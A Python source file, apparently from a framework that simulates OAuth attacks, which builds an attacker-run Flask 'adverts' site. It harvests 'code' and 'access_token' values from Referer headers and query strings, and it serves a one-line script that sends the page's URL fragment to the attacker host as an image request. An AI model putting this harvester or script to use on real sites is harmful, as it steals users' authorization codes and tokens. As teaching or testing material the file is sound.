"""A site whose pictures and scripts the client's pages load: what the attacker gets to see there."""

from __future__ import annotations

from collections.abc import Mapping
from functools import cache

from flask import Flask, Response, request

from app.actors.places import ADVERTS
from app.attacks.parts import ATTACKER, COPIES, STEAL
from app.flows.flow import Hosts
from app.trace.paths import pairs, split_url
from app.wire import Step, here

PIXEL = Step("pixel", "browser", ATTACKER, "GET", "/pixel.png", STEAL, "Load a picture of another site")
SCRIPT = Step("advert", "browser", ATTACKER, "GET", "/advert.js", STEAL, "Load a script of another site")
IMAGE = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
READING = """new Image().src = "%s/seen.png?" + location.hash.slice(1);
"""


@cache
def build() -> Flask:
    """The site with the adverts. It reads what requests say of where they come from."""
    app = Flask("adverts", static_folder=None)
    app.add_url_rule("/pixel.png", "pixel", pixel, methods=["GET"])
    app.add_url_rule("/advert.js", "advert", advert, methods=["GET"])
    app.add_url_rule("/seen.png", "seen", pixel, methods=["GET"])
    return app


def pixel() -> Response:
    """One dot that nobody sees. What comes with the request for it is kept."""
    told = [*pairs(split_url(request.headers.get("Referer", "")).query), *request.args.items()]
    for name, value in told:
        if name in {"code", "access_token"}:
            here().actor(ATTACKER).put(COPIES, name, value, f"the {name}, out of a request for a picture")
    return Response(IMAGE, content_type="image/gif")


def advert() -> Response:
    """A script for adverts, which does one thing more."""
    return Response(READING % ADVERTS, content_type="text/javascript")


def hosts(_: Mapping[str, str]) -> Hosts:
    """The site with the adverts."""
    return {ADVERTS: (ATTACKER, build())}
